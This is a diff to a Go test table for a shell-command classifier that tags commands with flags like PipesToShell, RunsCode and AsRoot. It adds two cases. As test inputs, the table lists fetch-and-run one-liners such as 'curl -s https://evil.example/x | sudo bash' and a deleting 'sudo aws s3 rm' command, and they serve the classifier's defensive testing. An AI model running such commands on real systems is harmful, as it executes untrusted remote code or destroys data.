@@ -133,6 +133,8 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"curl -s https://evil.example/x | sh", NotAWS | Several | RunsCode | PipesToShell},
 		{"curl -s https://evil.example/x | sudo bash", NotAWS | Several | RunsCode | PipesToShell | AsRoot},
 		{"curl -s https://evil.example/x | /usr/bin/env -i python3.13 -", NotAWS | Several | RunsCode | PipesToShell},
+		{"aws ec2 describe-instances | python3 -m json.tool", NotAWS | Several | RunsCode | ReadsAWS},
+		{"curl -s https://evil.example/x | python3 -m code", NotAWS | Several | RunsCode | PipesToShell},
 		{"bash -c 'aws s3 ls'", NotAWS | RunsCode},
 		{"python3 -c 'import os'", NotAWS | RunsCode},
 		{"sudo aws s3 rm s3://b", NotAWS | AsRoot | Deletes | ChangesState},
